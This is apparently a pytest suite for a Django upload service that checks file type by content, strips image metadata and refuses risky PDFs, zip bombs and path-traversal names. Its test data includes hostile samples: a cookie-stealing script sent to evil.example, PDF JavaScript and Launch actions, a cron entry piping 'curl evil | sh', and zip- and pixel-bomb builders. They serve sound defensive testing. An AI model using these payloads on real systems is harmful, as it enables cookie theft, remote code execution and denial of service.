"""Uploads: type by content and structure (not by name), size limits, images encoded again, PDFs without
active content, OFD archives that are no zip bombs, storage through Django's storage API under a name of
ours, downloads as attachments with the extension of the type found, only for who may see them, and the
sweep of orphaned stored files and stale temporary files (issue 11.3, 11.7, 10.10)."""

from __future__ import annotations

import hashlib
import io
import os
import struct
import time
import zipfile
import zlib
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.core.files.uploadedfile import UploadedFile as DjangoUploadedFile
from django.db import transaction
from django.test import Client
from django.utils import timezone
from PIL import Image

from bianmin.cases import files, services
from bianmin.cases.models import UploadedFile
from bianmin.core.errors import NotFound, PermissionDenied, ValidationError
from bianmin.core.storage import files_storage
from bianmin.org.models import Role
from tests.conftest import make_staff

# ----------------------------------------------------------------------------- real files, built here


def tiny_png() -> bytes:
    """A real 1x1 white PNG."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + chunk(b"IEND", b""))


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims width x height pixels (8-bit grey) with one row of data: a pixel bomb's header."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * (width + 1))) + chunk(b"IEND", b""))


def image_bytes(fmt: str = "JPEG", size=(40, 20), colour=(200, 30, 30), exif=None) -> bytes:
    """A real image made with Pillow, with left half `colour` and right half blue."""
    im = Image.new("RGB", size, colour)
    im.paste((0, 0, 255), (size[0] // 2, 0, size[0], size[1]))
    buf = io.BytesIO()
    im.save(buf, fmt, **({"exif": exif} if exif is not None else {}))
    return buf.getvalue()


def tiny_pdf(text: str = "bianmin", catalog_extra: bytes = b"", page_extra: bytes = b"", extra=(), pad: int = 0) -> bytes:
    """A small, real one-page PDF. `catalog_extra`/`page_extra` go into the catalog's and the page's
    dictionary, `extra` are further objects (numbered 6, 7, …), `pad` bytes of comment after the header."""
    stream = f"BT /F1 12 Tf 20 40 Td ({text}) Tj ET".encode()
    objs = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> "
            + page_extra + b" >>",
            b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", *extra]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    if pad:
        out.write(b"%" + b"x" * (pad - 2) + b"\n")
    offsets = []
    for i, body in enumerate(objs, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref))
    return out.getvalue()


JPEG = image_bytes("JPEG")
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run in DOS mode."
HTML = b"<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>"
OFD_XML = '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"/>'


def ofd(with_root=True, extra=()) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        if with_root:
            z.writestr("OFD.xml", OFD_XML)
        z.writestr("Doc_0/Document.xml", "<ofd:Document/>")
        for name, data in extra:
            z.writestr(zipfile.ZipInfo(name), data)
    return buf.getvalue()


def zeros_deflated(mib: int) -> tuple[bytes, int]:
    """A raw deflate stream of `mib` MiB of zero bytes, built without compressing them: each full flush
    resets the compressor, so every MiB compresses to the same 1 KB, repeated. Returns (stream, crc)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(bytes(1 << 20), crc)
    return piece * mib + c.flush(), crc


def ofd_with_zeros(mib: int, declared_size: int | None = None) -> bytes:
    """An OFD (OFD.xml first) with one entry that inflates to `mib` MiB of zeros; its directory may
    declare another uncompressed size (a lying header)."""
    stream, crc = zeros_deflated(mib)
    size = (mib << 20) if declared_size is None else declared_size
    name = b"Doc_0/Res/zeros.bin"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("OFD.xml", OFD_XML)
    head = buf.getvalue()
    # take the first entry's local header and data, drop its directory; then add ours by hand
    first = zipfile.ZipFile(io.BytesIO(head)).infolist()[0]
    body = head[: first.header_offset + 30 + len(first.filename) + first.compress_size]
    offset = len(body)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(stream), size, len(name), 0) + name
    data = body + local + stream
    cd_start = len(data)
    cd = (struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, first.CRC, first.compress_size, first.file_size,
                      len(first.filename), 0, 0, 0, 0, 0, first.header_offset) + first.filename.encode()
          + struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(stream), size,
                        len(name), 0, 0, 0, 0, 0, offset) + name)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2, 2, len(cd), cd_start, 0)
    return data + cd + end


# ----------------------------------------------------------------------------- fixtures


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "tmp")
    (tmp_path / "tmp").mkdir()  # as settings.py makes it at start-up
    return settings.MEDIA_ROOT


def upload(people, name, content, **kw):
    return files.store_upload(people["citizen"], SimpleUploadedFile(name, content), actor=people["citizen_user"], **kw)


def stored_bytes(record) -> bytes:
    with files_storage().open(record.path, "rb") as fh:
        return fh.read()


def nothing_stored(media) -> bool:
    return not UploadedFile.objects.exists() and not any(p.is_file() for p in (Path(media) / "uploads").rglob("*"))


def refused(people, media, name, content) -> ValidationError:
    with pytest.raises(ValidationError) as e:
        upload(people, name, content)
    assert nothing_stored(media)
    return e.value


# ----------------------------------------------------------------------------- what is accepted and stored


def test_pdf_stored_with_hash_size_and_random_name(people, media):
    data = tiny_pdf()
    f = upload(people, "营业执照.pdf", data)
    today = timezone.localdate()
    assert f.content_type == "application/pdf"
    assert f.size == len(data)
    assert f.sha256 == hashlib.sha256(data).hexdigest()
    assert f.original_name == "营业执照.pdf"
    assert f.owner == people["citizen"] and f.uploaded_by == people["citizen_user"]
    folder, name = f.path.rsplit("/", 1)
    assert folder == f"uploads/{today:%Y}/{today:%m}"
    assert len(name) == len("0" * 32 + ".pdf") and name.endswith(".pdf") and "营业执照" not in f.path
    assert stored_bytes(f) == data                       # through the storage API
    assert (Path(media) / f.path).read_bytes() == data   # which is the local folder by default
    assert oct((Path(media) / f.path).stat().st_mode & 0o777) == "0o640"


def test_type_comes_from_content_not_name(people):
    png = upload(people, "scan.pdf", tiny_png())
    assert png.content_type == "image/png" and png.path.endswith(".png")
    assert png.original_name == "scan.png"  # the label takes the extension of what the file is
    jpg = upload(people, "photo.png", JPEG)
    assert jpg.content_type == "image/jpeg" and jpg.path.endswith(".jpg") and jpg.original_name == "photo.jpg"
    kept = upload(people, "照片.JPEG", JPEG)
    assert kept.original_name == "照片.JPEG"
    o = upload(people, "licence.zip", ofd())
    assert o.content_type == "application/ofd" and o.path.endswith(".ofd") and o.original_name == "licence.ofd"
    assert stored_bytes(o) == ofd()


@pytest.mark.parametrize("name,content", [
    ("setup.pdf", EXE),                          # an .exe renamed .pdf
    ("page.pdf", b"<html><script>alert(1)</script></html>"),
    ("archive.ofd", ofd(with_root=False)),       # a zip, but not an OFD
    ("broken.ofd", b"PK\x03\x04" + b"\x00" * 100),  # zip magic, no zip
    ("notes.pdf", b" %PDF-1.4 leading space"),
])
def test_other_content_refused(people, media, name, content):
    e = refused(people, media, name, content)
    assert e.code == "file_type_not_allowed"
    assert "PDF、JPG、PNG 或 OFD" in e.message


def test_empty_file_refused(people):
    with pytest.raises(ValidationError) as e:
        upload(people, "empty.pdf", b"")
    assert e.value.code == "file_empty" and "空" in e.value.message


def _sparse(tmp_path, size: int, head: bytes = b"%PDF-1.4\n") -> Path:
    """A file of `size` bytes that takes no disk space beyond its first block."""
    p = tmp_path / "big.bin"
    with open(p, "wb") as fh:
        fh.write(head)
        fh.seek(size - 1)
        fh.write(b"\n")
    return p


def test_over_20_mb_refused_without_reading_it(people, tmp_path, media):
    limit = 20 * 1024 * 1024
    p = _sparse(tmp_path, limit + 1)
    with open(p, "rb") as fh:
        with pytest.raises(ValidationError) as e:
            files.store_upload(people["citizen"], DjangoUploadedFile(fh, name="big.pdf", size=limit + 1), actor=people["citizen_user"])
    assert e.value.code == "file_too_large" and "20 MB" in e.value.message
    # a client that lies about the size is stopped while the file is read, and nothing stays behind
    with open(p, "rb") as fh:
        with pytest.raises(ValidationError) as e:
            files.store_upload(people["citizen"], DjangoUploadedFile(fh, name="big.pdf", size=1000), actor=people["citizen_user"])
    assert e.value.code == "file_too_large"
    assert nothing_stored(media)
    # a real PDF of exactly 20 MB is allowed
    pad = limit - len(tiny_pdf())
    pad += limit - len(tiny_pdf(pad=pad))  # the offsets written at the end grow by a few digits
    data = tiny_pdf(pad=pad)
    assert len(data) == limit
    p.write_bytes(data)
    with open(p, "rb") as fh:
        f = files.store_upload(people["citizen"], DjangoUploadedFile(fh, name="max.pdf", size=limit), actor=people["citizen_user"])
    assert f.size == limit and f.sha256 == hashlib.sha256(data).hexdigest()


def test_a_large_upload_is_stored_whole_and_leaves_no_temporary_file(people, settings):
    """Over FILE_UPLOAD_MAX_MEMORY_SIZE (5 MB) Django writes the upload to FILE_UPLOAD_TEMP_DIR (see
    test_sweep_removes_stale_temporary_upload_files); after the request that folder is empty again."""
    data = tiny_pdf(pad=6 * 1024 * 1024)
    c = Client()
    c.force_login(people["citizen_user"])
    r = c.post("/api/v1/uploads", {"file": SimpleUploadedFile("大文件.pdf", data, content_type="application/pdf")})
    assert r.status_code == 201, r.content
    f = UploadedFile.objects.get(pk=r.json()["id"])
    assert f.size == len(data) and stored_bytes(f) == data
    assert list(Path(settings.FILE_UPLOAD_TEMP_DIR).iterdir()) == []


# ----------------------------------------------------------------------------- structure: images


def test_html_behind_a_jpeg_header_refused(people, media):
    """11.3: a JPEG's first bytes followed by a web page, named x.html, were accepted."""
    e = refused(people, media, "x.html", JPEG[:20] + HTML)
    assert e.code == "file_damaged" and "“x.html”无法作为 JPEG 图片打开" in e.message


def test_png_with_a_zip_appended_is_stored_without_it(people, media):
    """11.3: a PNG with a zip behind it was stored as it came (a polyglot). What is stored now is the
    picture alone, encoded again."""
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w") as z:
        z.writestr("payload.html", HTML)
    picture = image_bytes("PNG", size=(6, 4))
    f = upload(people, "照片.png", picture + hidden.getvalue())
    data = stored_bytes(f)
    assert not zipfile.is_zipfile(io.BytesIO(data)) and b"PK\x03\x04" not in data and b"payload.html" not in data
    assert f.size == len(data) and f.sha256 == hashlib.sha256(data).hexdigest()
    with Image.open(io.BytesIO(data)) as im:  # the same picture: red on the left, blue on the right
        assert im.format == "PNG" and im.size == (6, 4)
        assert im.convert("RGB").getpixel((0, 0)) == (200, 30, 30) and im.convert("RGB").getpixel((5, 3)) == (0, 0, 255)


def test_jpeg_keeps_the_picture_but_not_its_gps_position(people):
    """EXIF of a phone photo (where it was taken, the camera) is not kept; the photo is turned upright
    by its orientation tag first, so it still shows the right way up."""
    exif = Image.Exif()
    exif[0x0112] = 6                  # Orientation: rotate 90° clockwise to display
    exif[0x010F] = "PhoneMaker"       # Make
    exif.get_ifd(0x8825).update({1: "N", 2: (21.0, 16.0, 12.0), 3: "E", 4: (110.0, 21.0, 36.0)})  # 湛江 in GPS
    original = image_bytes("JPEG", size=(40, 20), exif=exif.tobytes())
    with Image.open(io.BytesIO(original)) as im:
        assert im.getexif().get_ifd(0x8825)  # the test file does carry a position
    f = upload(people, "IMG_0001.jpg", original)
    data = stored_bytes(f)
    assert b"PhoneMaker" not in data
    with Image.open(io.BytesIO(data)) as im:
        assert im.format == "JPEG"
        assert not im.getexif().get_ifd(0x8825) and 0x0112 not in im.getexif() and 0x010F not in im.getexif()
        assert im.size == (20, 40)    # upright: 20 wide, 40 high
        top_r, _g, _b = im.getpixel((10, 5))
        bottom_r, _g, bottom_b = im.getpixel((10, 35))
        assert top_r > 150 and bottom_b > 150 and bottom_r < 60  # red half on top after turning, blue below


@pytest.mark.parametrize("width,height", [(7000, 7000), (20000, 20000)])
def test_image_pixel_bombs_refused_before_decoding(people, media, width, height):
    """A small PNG can claim a huge picture: 49 million pixels are over our limit of 40, 400 million over
    Pillow's own bomb limit; neither is decoded (the test takes milliseconds)."""
    started = time.perf_counter()
    e = refused(people, media, "scan.png", png_header_only(width, height))
    assert e.code == "image_too_large" and "像素" in e.message
    assert time.perf_counter() - started < 2


def test_truncated_image_refused(people, media):
    noise = Image.effect_noise((64, 64), 80).convert("RGB")
    buf = io.BytesIO()
    noise.save(buf, "PNG")
    e = refused(people, media, "scan.png", buf.getvalue()[: len(buf.getvalue()) // 2])
    assert e.code == "file_damaged"


# ----------------------------------------------------------------------------- structure: PDFs


def test_html_behind_a_pdf_header_refused(people, media):
    """11.3: `%PDF-` followed by a web page was accepted."""
    e = refused(people, media, "report.pdf", b"%PDF-1.7\n" + HTML)
    assert e.code == "file_damaged" and "PDF" in e.message


@pytest.mark.parametrize("what,kw", [
    ("JavaScript", {"catalog_extra": b"/OpenAction << /S /JavaScript /JS (app.launchURL('https://evil.example/')) >>"}),
    ("JavaScript", {"catalog_extra": b"/OpenAction 6 0 R", "extra": [b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"]}),  # names in #hex
    ("JavaScript", {"catalog_extra": b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
                    "extra": [b"<< /S /JavaScript /JS 7 0 R >>", b"<< /Length 11 >>\nstream\napp.alert()\nendstream"]}),
    ("自动执行", {"page_extra": b"/AA << /O << /S /JavaScript /JS (this.exportDataObject()) >> >>"}),
    ("启动外部程序", {"page_extra": b"/Annots [6 0 R]",
                "extra": [b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch /F (cmd.exe) >> >>"]}),
    ("嵌入的文件", {"catalog_extra": b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
               "extra": [b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                         b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"]}),
    ("RichMedia", {"page_extra": b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"}),
    ("XFA", {"catalog_extra": b"/AcroForm << /Fields [] /XFA 6 0 R >>",
             "extra": [b"<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream"]}),
])
def test_pdf_with_active_content_refused(people, media, what, kw):
    """11.3: a PDF with /OpenAction JavaScript was accepted. Anything that runs or carries another file
    is refused, wherever it sits in the document."""
    data = tiny_pdf(**kw)
    e = refused(people, media, "申请书.pdf", data)
    assert e.code == "pdf_active_content"
    assert e.message.startswith("“申请书.pdf”含有") and what in e.message


def test_pdf_with_a_plain_open_action_and_links_accepted(people):
    """Opening at page 1 fitted to the window, and a web link, are no active content."""
    data = tiny_pdf(catalog_extra=b"/OpenAction [3 0 R /Fit]",
                    page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.gd.gov.cn/) >> >>]")
    assert upload(people, "指南.pdf", data).content_type == "application/pdf"


def test_encrypted_pdf_refused_unless_it_opens_without_a_password(people, media):
    from pypdf import PdfReader, PdfWriter

    def encrypted(user_password):
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(tiny_pdf())))
        writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
        buf = io.BytesIO()
        writer.write(buf)
        return buf.getvalue()

    e = refused(people, media, "加密.pdf", encrypted("1234"))
    assert e.code == "pdf_encrypted" and "密码" in e.message
    # a print restriction (owner password only) opens for everyone: accepted
    assert upload(people, "限制打印.pdf", encrypted("")).content_type == "application/pdf"


@pytest.mark.parametrize("limit,value", [("MAX_PDF_OBJECTS", 4), ("PDF_CHECK_SECONDS", -1)])
def test_pdf_too_complex_to_check_refused(people, media, monkeypatch, limit, value):
    """The check is bounded: a PDF with more objects than the limit (here 5 > 4), or one whose objects
    take longer to read than the time allowed (each object stream may inflate to 75 MB), is refused."""
    monkeypatch.setattr(files, limit, value)
    e = refused(people, media, "申请书.pdf", tiny_pdf())
    assert e.code == "pdf_too_complex" and "过于复杂" in e.message


# ----------------------------------------------------------------------------- structure: OFD (zip)


def test_ofd_zip_bomb_refused(people, media):
    """11.3: a 1 MB zip expanding to 1 GiB was accepted as an OFD."""
    data = ofd_with_zeros(1024)
    assert len(data) < 1_200_000
    assert sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist()) > 1 << 30
    started = time.perf_counter()
    e = refused(people, media, "电子证照.ofd", data)
    assert e.code == "zip_too_large" and "解压后超过 200 MB" in e.message
    assert time.perf_counter() - started < 2  # refused from the directory, nothing inflated


def test_ofd_compression_ratio_refused(people, media):
    """Under the total size limit, but 100 MiB out of 100 KB: no document compresses like that."""
    e = refused(people, media, "电子证照.ofd", ofd_with_zeros(100))
    assert e.code == "zip_ratio_too_high" and "压缩炸弹" in e.message


def test_ofd_with_lying_sizes_refused(people, media):
    """A directory that declares 1 KiB for an entry that inflates to 1 GiB: zipfile stops at the declared
    size and the CRC does not match."""
    e = refused(people, media, "电子证照.ofd", ofd_with_zeros(1024, declared_size=1024))
    assert e.code == "zip_damaged"


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "Doc_0\\..\\..\\x", "C:/Windows/x", "Doc_0/./../x",
                                  "Doc_0//x", "Doc_0/\x1b[2Jx"])
def test_ofd_entry_names_that_escape_refused(people, media, name):
    """11.3: an entry named ../../etc/cron.d/x was accepted."""
    e = refused(people, media, "电子证照.ofd", ofd(extra=[(name, b"* * * * * root curl evil | sh\n")]))
    assert e.code == "zip_bad_entry_name" and "不安全" in e.message


def test_ofd_with_too_many_entries_refused(people, media):
    e = refused(people, media, "电子证照.ofd", ofd(extra=[(f"Doc_0/p{i}.xml", b"") for i in range(10_000)]))
    assert e.code == "zip_too_many_entries" and "10000" in e.message


# ----------------------------------------------------------------------------- names


@pytest.mark.parametrize("name,kept", [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\system32\\evil.pdf", "evil.pdf"),
    ("/var/www/html/shell.pdf", "shell.pdf"),
    ("a\x00b\r\n\u202egpj.pdf", "abgpj.pdf"),      # NUL, CR/LF and a right-to-left override removed
    (" . ", "材料.pdf"),
    ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ("setup.exe", "setup.pdf"),
    ("x.html", "x.pdf"),
    ("年度报告.v2", "年度报告.pdf"),
    ("说明", "说明.pdf"),
    (".pdf", "材料.pdf"),
    ("scan..pdf", "scan..pdf"),
])
def test_names_are_labels_only(people, media, name, kept):
    f = upload(people, name, tiny_pdf())
    assert f.original_name == kept
    target = (Path(media) / f.path).resolve()
    assert (Path(media) / "uploads").resolve() in target.parents and target.is_file()
    assert ".." not in f.path and "passwd" not in f.path and "evil" not in f.path and f.path.endswith(".pdf")


def test_only_the_owner_or_staff_upload(people):
    with pytest.raises(PermissionDenied):
        files.store_upload(people["other"], SimpleUploadedFile("a.pdf", tiny_pdf()), actor=people["citizen_user"])
    f = files.store_upload(people["citizen"], SimpleUploadedFile("a.pdf", tiny_pdf()), actor=people["clerk"].user)
    assert f.uploaded_by == people["clerk"].user


# ----------------------------------------------------------------------------- downloads and who may


@pytest.fixture
def case_with_file(people, make_item):
    item = make_item(audience="both")
    f = upload(people, "申请书.pdf", tiny_pdf())
    materials = {m.pk: {"files": [f.pk]} if i == 0 else {"at_window": True} for i, m in enumerate(item.materials.all())}
    case = services.submit_application(applicant=people["citizen"], item=item, actor=people["citizen_user"], materials=materials)
    f.refresh_from_db()
    return case, f


def test_open_for_owner_and_staff_who_see_the_case(people, departments, case_with_file):
    case, f = case_with_file
    assert f.case_material.case == case
    assert files.open_for(people["citizen_user"], f.pk) == f
    with files.open_stored(f) as fh:
        assert fh.read()[:5] == b"%PDF-"
    assert files.open_for(people["reviewer"].user, f.pk) == f           # the case's department
    assert files.open_for(people["clerk"].user, str(f.pk)) == f         # the clerk of the market department
    police_clerk = make_staff("police_clerk", departments["police"], Role.CLERK)
    from django.contrib.auth.models import AnonymousUser
    for user in (people["other_user"], people["police_reviewer"].user, police_clerk.user, AnonymousUser(), None):
        with pytest.raises(NotFound):
            files.open_for(user, f.pk)
    for bad in (f.pk + 1000, 0, -1, 2**64, "abc", None):
        with pytest.raises(NotFound):
            files.open_for(people["citizen_user"], bad)


def test_catalog_admin_gets_404_for_case_files(people, departments, case_with_file):
    """11.7: 事项管理 of the case's own department could download the applicant's documents."""
    _case, f = case_with_file
    catalog_admin = make_staff("market_catalog", departments["market"], Role.CATALOG_ADMIN)
    with pytest.raises(NotFound):
        files.open_for(catalog_admin.user, f.pk)
    page, api = Client(), Client()
    page.force_login(catalog_admin.user)
    api.force_login(catalog_admin.user)
    r = page.get(f"/files/{f.pk}/")
    assert r.status_code == 404 and b"%PDF" not in r.content
    r = api.get(f"/api/v1/files/{f.pk}")
    assert (r.status_code, r.json()["code"]) == (404, "file_not_found")
    reviewer = Client()  # the same department's reviewer still may
    reviewer.force_login(people["reviewer"].user)
    assert reviewer.get(f"/files/{f.pk}/").status_code == 200


def test_unattached_file_only_for_its_owner(people):
    f = upload(people, "draft.png", tiny_png())
    assert files.open_for(people["citizen_user"], f.pk) == f
    with pytest.raises(NotFound):
        files.open_for(people["reviewer"].user, f.pk)


def test_a_tampered_path_is_never_served(people, media):
    f = upload(people, "a.pdf", tiny_pdf())
    for path in ("../../../../etc/passwd", "uploads/../../x.pdf", "uploads/2026/01/" + "0" * 32 + ".html"):
        UploadedFile.objects.filter(pk=f.pk).update(path=path)
        f.refresh_from_db()
        assert files.open_for(people["citizen_user"], f.pk) == f
        with pytest.raises(NotFound):
            files.open_stored(f)
        c = Client()
        c.force_login(people["citizen_user"])
        assert c.get(f"/files/{f.pk}/").status_code == 404


@pytest.mark.parametrize("name,content,served,content_type", [
    ("x.html", JPEG, "x.jpg", "image/jpeg"),
    ("setup.exe", tiny_pdf(), "setup.pdf", "application/pdf"),
    ("证件.png", JPEG, "证件.jpg", "image/jpeg"),
])
def test_download_has_the_extension_of_the_type_found(people, name, content, served, content_type):
    """11.3: downloads kept the user's name (x.html, setup.exe): a browser would open x.html as a page."""
    f = upload(people, name, content)
    c = Client()
    c.force_login(people["citizen_user"])
    from urllib.parse import quote
    for url in (f"/files/{f.pk}/", f"/api/v1/files/{f.pk}"):
        r = c.get(url)
        assert r.status_code == 200
        assert r["Content-Type"] == content_type
        assert r["X-Content-Type-Options"] == "nosniff"
        assert r["Content-Disposition"] in (f'attachment; filename="{served}"', f"attachment; filename*=utf-8''{quote(served)}")
        assert r["Cache-Control"] == "private, no-store"
        assert b"".join(r.streaming_content) == stored_bytes(f)


# ----------------------------------------------------------------------------- the sweep


def test_sweep_removes_stored_files_without_a_row_after_a_day(people, media):
    kept = upload(people, "a.pdf", tiny_pdf())
    storage = files_storage()
    orphan = storage.save("uploads/2026/01/" + "a" * 32 + ".pdf", io.BytesIO(tiny_pdf()))
    # a request killed between storing and committing: the file is stored, its row rolled back
    with pytest.raises(RuntimeError), transaction.atomic():
        lost = upload(people, "b.pdf", tiny_pdf("b"))
        raise RuntimeError("worker killed")
    assert storage.exists(lost.path) and not UploadedFile.objects.filter(path=lost.path).exists()
    now = timezone.now()
    assert files.sweep(now=now + timedelta(hours=23))["files_orphaned"] == 0  # within the grace period
    assert storage.exists(orphan) and storage.exists(lost.path)
    done = files.sweep(now=now + timedelta(hours=25))
    assert done["files_orphaned"] == 2
    assert not storage.exists(orphan) and not storage.exists(lost.path)
    assert storage.exists(kept.path) and stored_bytes(kept) == tiny_pdf()
    assert files.sweep(now=now + timedelta(hours=26))["files_orphaned"] == 0  # idempotent


def test_sweep_removes_stale_temporary_upload_files(settings, tmp_path):
    """Django writes uploads over FILE_UPLOAD_MAX_MEMORY_SIZE to the upload temporary folder and deletes
    them when the request ends; a killed worker leaves them behind."""
    big = TemporaryUploadedFile("scan.pdf", "application/pdf", 10, None)
    assert Path(big.temporary_file_path()).parent == Path(settings.FILE_UPLOAD_TEMP_DIR)
    old = Path(big.temporary_file_path())
    fresh = Path(settings.FILE_UPLOAD_TEMP_DIR) / "tmp-fresh.upload"
    fresh.write_bytes(b"in use")
    seven_hours_ago = time.time() - 7 * 3600
    os.utime(old, (seven_hours_ago, seven_hours_ago))
    done = files.sweep()
    assert done["files_temp"] == 1
    assert not old.exists() and fresh.exists()
    big.close()  # the live request's own clean-up finds its file gone: no error


def test_upload_temporary_folder_is_under_the_var_dir():
    from bianmin import settings as defaults

    assert Path(defaults.FILE_UPLOAD_TEMP_DIR) == defaults.VAR_DIR / "tmp" / "uploads"


def test_tick_runs_the_sweep(people, media, capsys):
    from bianmin import cli

    orphan = files_storage().save("uploads/2026/01/" + "b" * 32 + ".pdf", io.BytesIO(tiny_pdf()))
    old = time.time() - 2 * 86400
    os.utime(Path(media) / orphan, (old, old))
    assert cli.main(["tick"]) == 0
    assert "清除无主文件 1" in capsys.readouterr().out
    assert not files_storage().exists(orphan)
